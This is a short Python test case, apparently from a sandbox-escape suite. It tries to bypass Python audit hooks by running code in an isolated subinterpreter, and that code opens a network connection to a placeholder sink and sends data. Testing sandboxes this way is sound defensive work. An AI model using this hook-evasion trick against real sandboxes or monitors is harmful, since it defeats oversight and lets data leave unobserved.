# class: switch_off
# rule: outbound_connectivity
# success: an interpreter with a GIL of its own, which inherits no hook written in Python, connects
# proof: sink
# needs: python>=3.12
import sys

from attack import SINK, attempt

CODE = "import socket; socket.create_connection(%r, 3).send(b'taken')" % (SINK,)


@attempt
def connect():
    if sys.version_info >= (3, 13):
        import _interpreters as interpreters

        failed = interpreters.exec(interpreters.create("isolated"), CODE)
        return failed is None
    import _xxsubinterpreters as interpreters

    interpreters.run_string(interpreters.create(isolated=True), CODE)
    return True
